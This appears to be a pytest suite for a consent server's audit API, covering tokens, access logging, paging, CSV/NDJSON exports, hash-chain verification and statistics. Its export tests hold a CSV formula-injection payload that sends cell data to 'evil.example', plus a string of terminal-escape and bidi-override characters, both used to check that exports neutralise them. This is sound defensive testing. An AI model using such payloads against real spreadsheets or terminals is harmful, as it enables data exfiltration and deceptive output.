import base64
import csv
import datetime as dt
import io
import json
import re
import threading
import tracemalloc
from urllib.parse import parse_qsl

import pytest
import sqlalchemy as sa

from consent_server.domain import export
from consent_server.domain.vocabulary import CATEGORIES
from consent_server.store import accounts
from consent_server.store import log as store_log
from consent_server.store.engine import get_db
from consent_server.store.schema import audit_access, consent_events
from tests.conftest import ORIGIN
from tests.helpers import events, fill_log, new_event


@pytest.fixture
def make_token(app):
    def make(scope="audit", name="auditor"):
        with app.app_context():
            return accounts.create_token(get_db(), name, scope)

    return make


@pytest.fixture
def audit(client, make_token):
    token = make_token()

    def get(path, **params):
        return client.get(
            path, query_string=params, headers={"Authorization": f"Bearer {token}"}
        )

    return get


def record(consent, n, **changes):
    ids = []
    for _ in range(n):
        response = consent.post(**changes)
        assert response.status_code == 201
        ids.append(response.get_json()["id"])
    return ids


# -- who may ask ---------------------------------------------------------------


@pytest.mark.parametrize(
    "header", (None, "Bearer", "Bearer nope", "Basic abc", "cst_x")
)
def test_audit_needs_a_valid_token(client, engine, header):
    headers = {"Authorization": header} if header else {}
    response = client.get("/v1/audit/events", headers=headers)
    assert response.status_code == 401
    assert response.get_json()["error"]["code"] == "unauthorized"
    assert response.headers["WWW-Authenticate"].startswith("Bearer")
    with engine.connect() as conn:
        row = conn.execute(sa.select(audit_access)).one()
    assert (row.token_name, row.status, row.path) == ("(none)", 401, "/v1/audit/events")


@pytest.mark.parametrize("with_token", (False, True))
@pytest.mark.parametrize("path", ("/v1/audit/verify", "/v1/audit/events"))
def test_raw_bytes_in_the_query_are_a_logged_400(
    client, engine, make_token, path, with_token
):
    # Step: send a query string that is not UTF-8, as a raw socket could.
    headers = {"Authorization": f"Bearer {make_token()}"} if with_token else {}
    response = client.get(
        path, headers=headers, environ_overrides={"QUERY_STRING": "\xff=1"}
    )
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "bad_query"
    with engine.connect() as conn:
        row = conn.execute(sa.select(audit_access)).one()
    assert (row.status, row.path) == (400, path + "?\\xff=1")


@pytest.mark.parametrize(
    "path",
    (
        "/v1/consent",
        "/v1/consent/verify",
        "/v1/sites/shop/config",
        "/s/shop/consent.js",
    ),
)
def test_raw_bytes_in_the_query_are_a_400_on_every_api_path(client, path):
    response = client.get(path, environ_overrides={"QUERY_STRING": "\xff=1"})
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "bad_query"


def test_stats_token_reads_only_stats(client, make_token):
    headers = {"Authorization": f"Bearer {make_token('stats', 'dashboard')}"}
    assert client.get("/v1/audit/stats", headers=headers).status_code == 200
    for path in ("/v1/audit/events", "/v1/audit/verify", "/v1/audit/consents/x"):
        response = client.get(path, headers=headers)
        assert response.status_code == 403
        assert response.get_json()["error"]["code"] == "forbidden"


def test_revoked_token_stops_working(client, make_token, runner):
    token = make_token(name="laptop")
    headers = {"Authorization": f"Bearer {token}"}
    assert client.get("/v1/audit/verify", headers=headers).status_code == 200
    result = runner.invoke(args=["revoke-token", "laptop"])
    assert result.exit_code == 0 and "Revoked 1 token" in result.output
    assert client.get("/v1/audit/verify", headers=headers).status_code == 401
    listing = runner.invoke(args=["list-tokens"]).output
    assert "laptop\taudit" in listing and "revoked" in listing
    assert token not in listing
    assert runner.invoke(args=["revoke-token", "laptop"]).exit_code == 1


def test_every_audit_request_is_logged_apart(audit, consent, engine):
    (consent_id,) = record(consent, 1)
    audit("/v1/audit/consents/" + consent_id)
    audit("/v1/audit/events", site="demo")
    with engine.connect() as conn:
        rows = conn.execute(sa.select(audit_access).order_by(audit_access.c.id)).all()
    assert [(r.token_name, r.status) for r in rows] == [
        ("auditor", 200),
        ("auditor", 200),
    ]
    assert rows[0].path == "/v1/audit/consents/" + consent_id
    assert rows[1].path == "/v1/audit/events?site=demo"
    # The consent log itself is untouched by reading it.
    assert len(events(engine)) == 1


# -- events, pages, exports ----------------------------------------------------


def test_events_filter_by_site_consent_method_category_and_time(
    audit, consent, app, engine
):
    first = record(consent, 2)
    record(
        consent,
        1,
        method="reject_all",
        choices={"preferences": False, "analytics": False, "advertising": False},
    )
    everything = {"preferences": True, "analytics": True, "advertising": True}
    record(consent, 1, method="accept_all", choices=everything)

    def seqs(**params):
        response = audit("/v1/audit/events", **params)
        assert response.status_code == 200, response.get_json()
        return [e["seq"] for e in response.get_json()["events"]]

    assert seqs() == [1, 2, 3, 4]
    assert seqs(site="demo") == [1, 2, 3, 4] and seqs(site="other") == []
    assert seqs(consent_id=first[1]) == [2]
    assert seqs(method="reject_all") == [3]
    assert seqs(category="advertising") == [4]
    assert seqs(category="analytics", granted="false") == [3]
    middle = events(engine)[1]["recorded_at"]
    assert seqs(since=middle.isoformat()) == [2, 3, 4]
    assert seqs(until=middle.isoformat()) == [1]
    assert seqs(since="2999-01-01") == []


@pytest.mark.parametrize(
    ("params", "code"),
    (
        ({"limit": "0"}, "invalid_parameter"),
        ({"limit": "5000"}, "invalid_parameter"),
        ({"limit": "ten"}, "invalid_parameter"),
        ({"cursor": "abc"}, "invalid_parameter"),
        ({"since": "yesterday"}, "invalid_parameter"),
        ({"method": "maybe"}, "invalid_parameter"),
        ({"category": "tracking"}, "invalid_parameter"),
        ({"granted": "yes"}, "invalid_parameter"),
        ({"granted": "false"}, "invalid_parameter"),
        ({"format": "xml"}, "invalid_parameter"),
        ({"sites": "demo"}, "unknown_parameter"),
    ),
)
def test_bad_event_queries_are_refused(audit, params, code):
    response = audit("/v1/audit/events", **params)
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == code


def test_pages_follow_the_cursor_to_the_end(audit, engine):
    fill_log(engine, 25)
    seen, cursor = [], None
    while True:
        params = {"limit": 10, **({"cursor": cursor} if cursor else {})}
        page = audit("/v1/audit/events", **params).get_json()
        seen += [e["seq"] for e in page["events"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == list(range(1, 26))


def test_paging_while_consents_arrive_neither_skips_nor_repeats(app, audit, consent):
    stop = threading.Event()
    errors = []

    def arrive():
        client = app.test_client()
        while not stop.is_set():
            r = client.post(
                "/v1/consent", json=consent.body(), headers={"Origin": ORIGIN}
            )
            if r.status_code != 201:
                errors.append(r.status_code)

    writers = [threading.Thread(target=arrive) for _ in range(2)]
    for t in writers:
        t.start()
    seen, cursor, pages = [], "0", 0
    try:
        while pages < 40:
            page = audit("/v1/audit/events", limit=3, cursor=cursor).get_json()
            seen += [e["seq"] for e in page["events"]]
            cursor = page["next_cursor"] or (str(seen[-1]) if seen else "0")
            pages += 1
    finally:
        stop.set()
        for t in writers:
            t.join()
    # Finish reading what arrived after the last page.
    while True:
        page = audit("/v1/audit/events", limit=100, cursor=cursor).get_json()
        seen += [e["seq"] for e in page["events"]]
        if page["next_cursor"] is None:
            break
        cursor = page["next_cursor"]
    assert errors == []
    assert len(seen) > 20
    assert seen == list(range(1, len(seen) + 1))


def test_consent_history_is_every_event_oldest_first(audit, consent):
    first = consent.post().get_json()
    consent.post(
        method="withdraw",
        previous=first["token"],
        choices={"preferences": False, "analytics": False, "advertising": False},
    )
    record(consent, 1)  # someone else
    response = audit(f"/v1/audit/consents/{first['id']}")
    assert response.status_code == 200
    history = response.get_json()
    assert history["id"] == first["id"] and history["site"] == "demo"
    assert [e["method"] for e in history["events"]] == ["custom", "withdraw"]
    assert history["current"] == {
        "preferences": False,
        "analytics": False,
        "advertising": False,
    }
    for event in history["events"]:
        assert len(event["texts_hash"]) == 64 and event["config_revision"] == 1
    assert audit("/v1/audit/consents/nobody").status_code == 404


def test_csv_and_ndjson_exports_match_the_log(audit, consent, engine):
    record(consent, 3)
    stored = [export.as_json(r) for r in events(engine)]

    ndjson = audit("/v1/audit/events", format="ndjson")
    assert ndjson.mimetype == "application/x-ndjson"
    lines = [json.loads(line) for line in ndjson.get_data(as_text=True).splitlines()]
    # Step: every event, then the end line stating how many and the last hash,
    # and the Merkle tree the export is of.
    assert [{k: e[k] for k in export.CSV_FIELDS} for e in lines[:-1]] == stored
    assert [e["leaf_index"] for e in lines[:-1]] == [0, 1, 2]
    end = lines[-1]["end"]
    assert {k: end[k] for k in ("rows", "hash", "tree_size")} == {
        "rows": 3,
        "hash": stored[-1]["hash"],
        "tree_size": 3,
    }

    response = audit("/v1/audit/events", format="csv", method="custom")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    body, end = text.rstrip("\n").rsplit("\n", 1)
    assert end.startswith(f"#end rows=3 hash={stored[-1]['hash']} tree_size=3 root=")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [int(r["seq"]) for r in rows] == [1, 2, 3]
    assert rows[0]["hash"] == stored[0]["hash"]
    assert rows[0]["analytics"] == "true" and rows[0]["advertising"] == "false"


def test_export_of_100000_events_streams_with_flat_memory(app, make_token, engine):
    fill_log(engine, 100_000)
    client = app.test_client()
    headers = {"Authorization": f"Bearer {make_token()}"}
    tracemalloc.start()
    try:
        response = client.get(
            "/v1/audit/events?format=csv", headers=headers, buffered=False
        )
        count, size, tail = 0, 0, ""
        for chunk in response.response:
            text = chunk.decode() if isinstance(chunk, bytes) else chunk
            count += text.count("\n")
            size += len(text)
            tail = (tail + text)[-2000:]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        response.close()
    assert count == 100_002  # header, every event and the end line
    last_row, end = tail.splitlines()[-2:]
    assert last_row.startswith("100000,")
    assert end.startswith(
        f"#end rows=100000 hash={last_row.split(',')[-3]} tree_size=100000 root="
    )
    # The export is tens of megabytes; what it holds at once stays small.
    assert size > 30_000_000
    assert peak < 15_000_000, f"peak {peak} bytes while streaming {size} bytes"

    with engine.connect() as conn:
        assert store_log.verify_chain(conn).events == 100_000
    text = client.get(
        "/v1/audit/events?format=csv&site=demo&method=withdraw", headers=headers
    ).get_data(as_text=True)
    body, end = text.rstrip("\n").rsplit("\n", 1)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 25_000
    assert end.startswith(f"#end rows=25000 hash={rows[-1]['hash']} tree_size=")
    assert rows[0]["seq"] == "3" and rows[0]["method"] == "withdraw"


# -- the chain ----------------------------------------------------------------


def test_verify_endpoint_reports_the_chain(audit, consent, engine):
    record(consent, 4)
    report = audit("/v1/audit/verify").get_json()
    root = report.pop("root")
    assert report == {
        "ok": True,
        "events": 4,
        "first_bad_seq": None,
        "tree_size": 4,
        # The first append signed a checkpoint of one event.
        "matches_checkpoint": True,
        "tree_problem": None,
        "documents_changed": [],
    }
    assert len(base64.b64decode(root)) == 32
    first, second = events(engine)[1:3]
    # Swap the contents of two rows, hashes and all (event ids are unique,
    # so the first one steps aside while the other moves in).
    c = consent_events.c
    with engine.begin() as conn:
        conn.execute(
            consent_events.update().where(c.seq == 2).values(event_id="moving")
        )
        for seq, row in ((3, first), (2, second)):
            values = {k: v for k, v in row.items() if k not in ("seq", "leaf_index")}
            conn.execute(consent_events.update().where(c.seq == seq).values(**values))
    report = audit("/v1/audit/verify").get_json()
    assert {k: report[k] for k in ("ok", "events", "first_bad_seq")} == {
        "ok": False,
        "events": 1,
        "first_bad_seq": 2,
    }
    # The rows moved, so neither hashes to its leaf any more.
    assert report["tree_problem"] == (
        "the event at sequence number 2 does not hash to its leaf 1: the row"
        " was changed"
    )


def test_verify_after_prune_still_passes(audit, consent, engine):
    record(consent, 3)
    later = events(engine)[0]["recorded_at"] + dt.timedelta(days=7, microseconds=1)
    with engine.connect() as conn:
        assert store_log.prune(conn, 7, now=later) == 1
    report = audit("/v1/audit/verify").get_json()
    # The pruned event's leaf stays: the tree still has three.
    assert {k: report[k] for k in ("ok", "events", "first_bad_seq", "tree_size")} == {
        "ok": True,
        "events": 2,
        "first_bad_seq": None,
        "tree_size": 3,
    }
    assert report["tree_problem"] is None


# -- statistics ---------------------------------------------------------------


def test_stats_count_opt_in_rates_per_day_method_and_gpc(audit, engine):
    # fill_log's pattern over seq 1..12: methods cycle withdraw(0) accept(1)
    # reject(2) custom(3) by seq % 4; gpc when seq % 3 == 0.
    start = dt.datetime(2026, 3, 1, 22, tzinfo=dt.UTC)
    fill_log(engine, 12, start=start, step=dt.timedelta(minutes=20))
    days = audit("/v1/audit/stats").get_json()["days"]
    assert [(d["day"], d["events"]) for d in days] == [
        ("2026-03-01", 6),
        ("2026-03-02", 6),
    ]

    rows = events(engine)
    for day in days:
        mine = [r for r in rows if r["recorded_at"].date().isoformat() == day["day"]]
        for k in ("preferences", "analytics", "advertising"):
            assert day["opt_in"][k] == round(sum(r[k] for r in mine) / len(mine), 4)
        assert day["visitors"] == len({r["consent_id"] for r in mine})
        for method, bucket in day["by_method"].items():
            subset = [r for r in mine if r["method"] == method]
            assert bucket["events"] == len(subset)
            assert bucket["opt_in"]["analytics"] == round(
                sum(r["analytics"] for r in subset) / len(subset), 4
            )
        assert day["by_gpc"]["on"]["events"] == sum(r["gpc"] for r in mine)

    accept = days[0]["by_method"]["accept_all"]
    assert accept["opt_in"]["analytics"] == 1.0
    assert days[0]["by_method"]["reject_all"]["opt_in"] == {
        "preferences": 0.0,
        "analytics": 0.0,
        "advertising": 0.0,
    }
    later = audit("/v1/audit/stats", since="2026-03-02").get_json()["days"]
    assert [d["day"] for d in later] == ["2026-03-02"]
    assert audit("/v1/audit/stats", since="March").status_code == 400


@pytest.mark.parametrize(
    "query",
    (
        "cursor=99999999999999999999",
        "cursor=-1",
        "until=9999-12-31T23:00:00-05:00",
        "since=0001-01-01T00:00:00%2B05:00",
        "site=a%00b",
    ),
)
def test_out_of_range_and_nul_parameters_are_refused(audit, query):
    response = audit("/v1/audit/events", **dict(parse_qsl(query)))
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "invalid_parameter"


def test_nul_in_a_consent_id_is_refused_and_still_logged(audit, engine):
    assert audit("/v1/audit/consents/a%00b").status_code == 400
    with engine.connect() as conn:
        row = conn.execute(sa.select(audit_access)).one()
    assert (row.status, row.path) == (400, "/v1/audit/consents/a\\0b")


def test_csv_export_cannot_carry_a_formula(audit, consent):
    consent.post(headers={"User-Agent": '=HYPERLINK("http://evil.example/?"&A1,"x")'})
    rows = list(
        csv.DictReader(
            io.StringIO(audit("/v1/audit/events", format="csv").get_data(as_text=True))
        )
    )
    assert rows[0]["user_agent"].startswith("'=HYPERLINK")


HOSTILE_AGENT = "Mozilla/5.0 \x1b[2J\u202eevil\nnext\\x1b \x7f\x85\u2066"


def append_raw(engine, user_agent):
    # Step: a row as an older version (or plain SQL with the chain redone)
    # could have stored it, past recording's own clean-up.
    event = new_event(
        choices={k: True for k in CATEGORIES},
        method="accept_all",
        user_agent=user_agent,
    )
    with engine.connect() as conn:
        store_log.append(conn, event)


def test_csv_export_shows_control_characters_as_escapes(audit, engine):
    append_raw(engine, HOSTILE_AGENT)
    text = audit("/v1/audit/events", format="csv").get_data(as_text=True)
    # Nothing a terminal or spreadsheet acts on reaches the file, and the
    # event stays one line between the header and the end line.
    assert not re.search(
        "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text
    )
    header, line, end = text.splitlines()
    assert end.startswith("#end rows=1 ")
    (row,) = csv.DictReader(io.StringIO(header + "\n" + line))
    assert row["user_agent"] == (
        "Mozilla/5.0 \\x1b[2J\\u202eevil\\x0anext\\\\x1b \\x7f\\x85\\u2066"
    )


def test_csv_escapes_keep_the_formula_guard():
    assert export._cell("\t=1+1") == "\\x09=1+1"
    assert export._cell("-2") == "'-2"
    assert export._cell("=\x1b") == "'=\\x1b"


def test_ndjson_export_escapes_control_characters_losslessly(audit, engine):
    append_raw(engine, HOSTILE_AGENT)
    text = audit("/v1/audit/events", format="ndjson").get_data(as_text=True)
    assert not re.search(
        "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text
    )
    event, end = (json.loads(line) for line in text.splitlines())
    # JSON escapes read back as the stored text, so the hash still checks.
    assert event["user_agent"] == HOSTILE_AGENT
    assert {k: end["end"][k] for k in ("rows", "hash")} == {
        "rows": 1,
        "hash": event["hash"],
    }
    assert event["entry"]["user_agent"] == HOSTILE_AGENT


@pytest.mark.parametrize("fmt", ("csv", "ndjson"))
def test_an_empty_export_still_ends_with_its_end_line(audit, consent, fmt):
    record(consent, 2)
    text = audit("/v1/audit/events", format=fmt, site="nowhere").get_data(as_text=True)
    last = text.splitlines()[-1]
    if fmt == "csv":
        assert text.count("\n") == 2  # the header and the end line
        assert last.startswith(f"#end rows=0 hash={'0' * 64} tree_size=2 root=")
    else:
        end = json.loads(last)["end"]
        assert {k: end[k] for k in ("rows", "hash", "tree_size")} == {
            "rows": 0,
            "hash": "0" * 64,
            "tree_size": 2,
        }


@pytest.mark.parametrize("lines", (export.csv_lines, export.ndjson_lines))
def test_an_export_cut_short_has_no_end_line(engine, consent, lines):
    record(consent, 3)
    stored = [export.as_json(r) for r in events(engine)]

    def failing():
        yield from (export.cells_of(r) for r in stored[:2])
        raise ConnectionError("the database went away")

    written = []
    with pytest.raises(ConnectionError):
        for line in lines(failing()):
            written.append(line)
    assert len(written) >= 2  # what came before the failure was written
    assert not any(line.startswith(("#end", '{"end"')) for line in written)
